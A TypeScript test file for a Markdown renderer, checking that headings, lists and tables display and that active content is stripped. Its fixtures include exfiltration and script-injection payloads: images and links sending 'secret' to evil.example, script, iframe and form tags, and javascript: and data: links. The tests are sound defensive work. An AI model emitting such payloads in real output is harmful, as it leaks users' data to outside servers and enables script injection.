import { screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { renderWithWords } from '@/i18n/testing'
import { Markdown } from './markdown'

const show = (text: string) => renderWithWords(<Markdown text={text} />).container

describe('an answer', () => {
  it('has headings below that of its card, lists and tables', () => {
    show('# 見出し\n\n- 一つ\n\n| 商品 | 件数 |\n|---|---|\n| 歯ブラシ | 3 |')
    expect(screen.getByRole('heading', { level: 3, name: '見出し' })).toBeDefined()
    expect(screen.getByRole('listitem').textContent).toBe('一つ')
    expect(screen.getByRole('cell', { name: '歯ブラシ' })).toBeDefined()
  })

  it.each([
    ['a picture that would tell another server', '![絵](https://evil.example/?d=secret)'],
    ['HTML', '<img src="https://evil.example/a.png"><script>alert(1)</script><iframe src="//evil.example"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name="a"></form>'],
    ['a link that would run', '[押す](javascript:alert(1)) [押す](data:text/html,x)'],
    ['a link that would tell another server', '[詳しく](https://evil.example/?d=secret)'],
  ])('shows nothing that acts: %s', (_, text) => {
    const drawn = show(text)
    expect(drawn.querySelectorAll('a, img, script, iframe, form, input, svg, style, link')).toHaveLength(0)
  })

  it('says where a link would lead', () => {
    expect(show('[詳しく](https://www.example.jp/a)').textContent).toContain('詳しく （https://www.example.jp/a）')
  })
})
